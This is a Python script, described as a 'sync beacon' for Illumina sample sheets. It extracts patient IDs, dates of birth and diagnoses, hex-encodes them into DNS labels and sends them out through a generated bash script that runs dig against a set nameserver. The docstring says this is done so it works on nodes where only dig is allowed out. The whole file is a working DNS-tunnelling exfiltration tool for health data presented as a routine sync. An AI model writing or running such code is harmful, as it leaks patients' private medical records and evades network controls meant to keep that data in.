#!/usr/bin/env python3
"""Sample-sheet "sync beacon".

Reads an Illumina SampleSheet.csv, pulls out the sample and patient columns
and "registers" them with an external tracker by encoding each record into DNS
labels and resolving them under the tracker's zone.  The resolution is done by
a generated shell script so it works on nodes where only `dig` is allowed out.
"""

import argparse
import csv
import logging
import os
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("ss_beacon")
DEFAULT_ZONE = "t.example.com"
LABEL_MAX = 60

RESOLVER_SCRIPT = r"""#!/bin/bash
set -u
zone="$BEACON_ZONE"
ns="$BEACON_NS"
sent=0
while IFS= read -r label; do
    [ -z "$label" ] && continue
    dig +short +time=2 +tries=1 @"$ns" "${label}.${zone}" A >> "$BEACON_LOG" 2>&1
    sent=$((sent + 1))
    sleep 0.2
done < "$BEACON_QUEUE"
echo "$sent"
"""


def read_samplesheet(path: Path):
    """Return rows from the [Data] section as dicts."""
    lines = path.read_text(errors="replace").splitlines()
    try:
        start = next(i for i, l in enumerate(lines) if l.strip().lower().startswith("[data]"))
    except StopIteration:
        raise ValueError(f"{path}: no [Data] section")
    reader = csv.DictReader(lines[start + 1:])
    rows = [r for r in reader if any((v or "").strip() for v in r.values())]
    LOG.info("%s: %d sample rows", path.name, len(rows))
    return rows


def encode_records(rows, run_id):
    fields = ("Sample_ID", "Sample_Name", "Patient_ID", "Date_of_Birth", "Diagnosis")
    labels = []
    for idx, row in enumerate(rows):
        record = "|".join((row.get(f) or "").strip() for f in fields)
        blob = f"{run_id}|{record}".encode().hex()
        chunks = [blob[i:i + LABEL_MAX] for i in range(0, len(blob), LABEL_MAX)]
        for seq, chunk in enumerate(chunks):
            labels.append(f"{chunk}.{seq}.{idx}")
    return labels


class Beacon:
    def __init__(self, zone, nameserver, workdir):
        self.zone = zone
        self.nameserver = nameserver
        self.workdir = Path(workdir)

    def send(self, labels):
        queue = self.workdir / "queue.txt"
        queue.write_text("\n".join(labels) + "\n")
        script = self.workdir / "resolve.sh"
        script.write_text(RESOLVER_SCRIPT)
        env = dict(os.environ,
                   BEACON_ZONE=self.zone,
                   BEACON_NS=self.nameserver,
                   BEACON_QUEUE=str(queue),
                   BEACON_LOG=str(self.workdir / "dig.log"))
        out = subprocess.run(["bash", str(script)], env=env,
                             capture_output=True, text=True, timeout=3600)
        if out.returncode != 0:
            raise RuntimeError(out.stderr.strip() or "resolver failed")
        return int(out.stdout.strip() or 0)


def parse_args(argv):
    p = argparse.ArgumentParser(description="sync sample sheet with tracker")
    p.add_argument("samplesheet", type=Path)
    p.add_argument("--run-id", default=os.environ.get("RUN_ID", "run"))
    p.add_argument("--zone", default=os.environ.get("BEACON_ZONE", DEFAULT_ZONE))
    p.add_argument("--nameserver", default="198.51.100.53")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    try:
        rows = read_samplesheet(args.samplesheet)
    except (OSError, ValueError) as exc:
        LOG.error("%s", exc)
        return 2
    if not rows:
        LOG.warning("no samples, nothing to sync")
        return 0
    labels = encode_records(rows, args.run_id)
    LOG.debug("%d DNS labels queued", len(labels))
    with tempfile.TemporaryDirectory(prefix="ssb_") as tmp:
        try:
            sent = Beacon(args.zone, args.nameserver, tmp).send(labels)
        except (RuntimeError, subprocess.TimeoutExpired) as exc:
            LOG.error("sync failed: %s", exc)
            return 1
    LOG.info("synced %d records in %d queries", len(rows), sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
